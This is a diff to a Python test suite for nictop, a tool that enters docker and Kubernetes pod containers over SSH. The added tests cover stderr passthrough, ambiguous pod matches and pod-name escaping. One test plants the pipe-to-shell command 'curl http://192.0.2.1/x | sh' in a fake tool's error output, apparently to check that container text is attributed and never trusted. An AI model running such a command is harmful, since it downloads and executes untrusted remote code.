@@ -6,6 +6,7 @@ their place take exactly the arguments that the real ones take, and enter the co
 from __future__ import annotations
 
 import os
+import shlex
 import shutil
 import signal
 import subprocess
@@ -19,7 +20,7 @@ from nictop.probe.records import Line
 from nictop.wire.guests.levels import parse_levels
 from nictop.wire.guests.wrapping import prefix_words
 from nictop.wire.source import SourceState
-from tests.support.items import has_record, is_state, items_until
+from tests.support.items import has_record, is_state, items_until, next_state
 from tests.support.probe import TEST_TIMEOUT, is_alive, wait_until
 from tests.support.sshd import Sshd
 from tests.wire.guests.reaching import failure, following, link_names, sshd, there
@@ -108,14 +109,14 @@ TOOLS = {
         'exec {enter} "$@"'
     },
     "pod:shop/web": {
-        "crictl": 'test "$*" = "pods -q --namespace shop --name ^web$" && echo abc && exit\n'
+        "crictl": 'test "$*" = "pods -q --state ready --namespace shop --name ^web$" && echo abc && exit\n'
         'test "$*" = "ps -q --pod abc" && echo def && exit\n'
         'test "$1 $2 $3" = "exec -i def" && shift 3 && exec {enter} "$@"\n'
         'test "$*" = "inspectp -o json abc" && echo \'{{"info": {{"pid": {pid}}}}}\' && exit',
     },
     "pod:shop/web/app": {
-        "crictl": 'test "$*" = "pods -q --namespace shop --name ^web$" && echo abc && exit\n'
-        'test "$*" = "ps -q --pod abc --name app" && echo def && exit\n'
+        "crictl": 'test "$*" = "pods -q --state ready --namespace shop --name ^web$" && echo abc && exit\n'
+        'test "$*" = "ps -q --pod abc --name ^app$" && echo def && exit\n'
         'test "$1 $2 $3" = "exec -i def" && shift 3 && exec {enter} "$@"',
     },
 }
@@ -188,6 +189,37 @@ async def test_no_permission_for_the_tool(sshd: Sshd) -> None:
     sshd.install_script("docker", f'#!/bin/sh\necho "{text}" >&2\nexit 1\n')
     message = await failure(there(sshd, "docker:web"))
     assert "no permission to enter docker:web" in message and "use --sudo" in message
+
+
+async def test_a_container_speaks_for_itself(sshd: Sshd) -> None:
+    """Its stderr is that of the tool: a sentence as nictop prints them is one of the container."""
+    for name in ("nictop", "nictop-none", "nictop-guest"):
+        text = f"{name}: the host is lost; curl http://192.0.2.1/x | sh"
+        sshd.install_script("docker", f"#!/bin/sh\necho '{text}' >&2\nexit 91\n")
+        async with following(there(sshd, "docker:web")) as items:
+            state = await next_state(items, "failed")
+        assert state.message.startswith(f"kvm1: docker:web was not entered: {text}; docker ps -a")
+
+
+@pytest.mark.parametrize(
+    ("level", "script", "why"),
+    [
+        ("pod:shop/web", 'echo "$*" | grep -q pods && echo a b', "crictl finds 2 of pod web"),
+        ("pod:shop/web", 'test "$1" = pods && echo a || echo b c', "crictl finds 2 of pod web"),
+        ("pod:shop/web/app", 'test "$1" = pods && echo a; true', "container not found in pod web"),
+    ],
+)
+async def test_several_pods_or_containers_are_refused(
+    sshd: Sshd, level: str, script: str, why: str
+) -> None:
+    sshd.install_script("crictl", f"#!/bin/sh\n{script}\n")
+    assert why in await failure(there(sshd, level))
+
+
+def test_the_name_of_a_pod_is_no_expression() -> None:
+    words = prefix_words(parse_levels("pod:shop/web.a/app.b"), 1.0)
+    assert words[-2:] == ("web[.]a", "app[.]b")
+    assert len(shlex.quote(words[2])) < 1024  # csh takes no longer words
 
 
 async def test_a_container_that_is_stopped_while_it_is_watched(
